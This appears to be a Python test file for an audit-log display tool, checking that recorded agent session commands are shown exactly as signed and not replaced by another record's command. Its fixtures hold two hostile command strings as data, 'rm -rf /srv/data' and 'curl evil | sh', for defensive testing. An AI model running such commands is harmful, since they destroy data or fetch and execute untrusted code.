"""Review 10: `tucdesk-audit show` never puts another record's command on a record that carries
one of its own, and never hides what the record signed: a field is left out of a line's details
only when that record's own column was built from it (the reviewer's test_show_hides.py)."""

from __future__ import annotations

import io

import trio

from audit.actions import Action
from audit.show import RecordFilter, ShownRecord, show_records
from tests.audit.builders import (
    AGENT_ID,
    AGENT_KEY,
    AUDIT_KEY,
    SERVICE,
    START,
    agent_event,
    export_bundle,
    new_log,
    register_agent,
)


def _session_lines() -> dict[str, list[ShownRecord]]:
    log = new_log()

    async def build() -> None:
        await register_agent(log)
        await log.append(
            Action.SESSION_REQUESTED, SERVICE, session_id="s-1", context={"command": "uptime"}
        )
        for context in (
            {"argv": "rm -rf /srv/data", "exit_code": 0},  # not a list: malformed
            {"argv": ["uptime"], "command": "curl evil | sh", "exit_code": 0},
        ):
            signed = agent_event(
                Action.SESSION_COMMAND, when=START, session_id="s-1", context=context
            )
            await log.append_agent_event(signed, AGENT_ID, AGENT_KEY.public)
        ended = agent_event(
            Action.SESSION_ENDED, when=START, session_id="s-1", context={"reason": "exited"}
        )
        await log.append_agent_event(ended, AGENT_ID, AGENT_KEY.public)

    trio.run(build)
    shown = show_records(io.BytesIO(export_bundle(log)), [AUDIT_KEY.public], RecordFilter())
    assert shown.verification.verified
    by_action: dict[str, list[ShownRecord]] = {}
    for record in shown.records:
        by_action.setdefault(record.action, []).append(record)
    return by_action


def test_a_malformed_argv_is_shown_as_signed_not_replaced_by_the_requested_command() -> None:
    malformed, _ = _session_lines()["session.command"]
    line = malformed.line()
    assert malformed.command is None
    assert " command=" not in line, line
    assert ' details.argv="rm -rf /srv/data"' in line, line


def test_a_command_field_beside_the_argv_column_stays_in_the_details() -> None:
    _, both = _session_lines()["session.command"]
    line = both.line()
    assert " command=uptime " in line, line
    assert ' details.command="curl evil | sh"' in line, line
    assert "details.argv" not in line


def test_a_record_without_a_command_of_its_own_shows_its_sessions() -> None:
    lines = _session_lines()
    [requested] = lines["session.requested"]
    assert " command=uptime" in requested.line() and "details.command" not in requested.line()
    [ended] = lines["session.ended"]
    assert ended.command == "uptime" and "details.reason=exited" in ended.line()
